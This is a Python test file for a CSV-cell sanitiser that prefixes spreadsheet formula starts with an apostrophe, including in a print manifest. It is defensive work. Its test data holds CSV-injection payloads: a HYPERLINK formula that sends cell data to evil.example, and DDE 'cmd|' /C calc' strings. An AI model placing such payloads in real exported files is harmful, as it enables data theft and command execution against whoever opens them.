"""The one CSV-cell helper: formulas neutralised, numbers left numbers (and the print manifest uses it)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from dunning.csvcells import FORMULA_STARTS, safe_cell, safe_cells, safe_row
from dunning.print.assemble import ManifestRow, manifest_csv


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "=", "-", "+", "@", "-1e3", "--1", "-12.50 EUR", "+32 470 12 34 56"],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value: str) -> None:
    assert value.startswith(FORMULA_STARTS)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+32470123456", "-20", "12,50", "Jan Peeters", "", "a=b", " =1"])
def test_plain_numbers_and_text_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_values_that_are_not_text_are_untouched() -> None:
    assert safe_cells([Decimal("-12.50"), -3, None, 1.5]) == [Decimal("-12.50"), -3, None, 1.5]
    assert safe_row({"name": "=1+1", "amount": Decimal("-1")}) == {"name": "'=1+1", "amount": Decimal("-1")}


def test_the_print_manifest_keeps_its_numbers_and_neutralises_text_from_the_ledger() -> None:
    row = ManifestRow("B1", 1, "17", "4", "=cmd|'/C calc'!A0", 1, 2, 0, 1, "C5/6", "standard", "BE", "@1000", "ab")
    [read] = list(csv.DictReader(io.StringIO(manifest_csv([row]).decode())))
    assert (read["sequence"], read["first_page"], read["page_count"]) == ("1", "1", "2")
    assert read["debtor_id"] == "'=cmd|'/C calc'!A0" and read["postal_code"] == "'@1000"
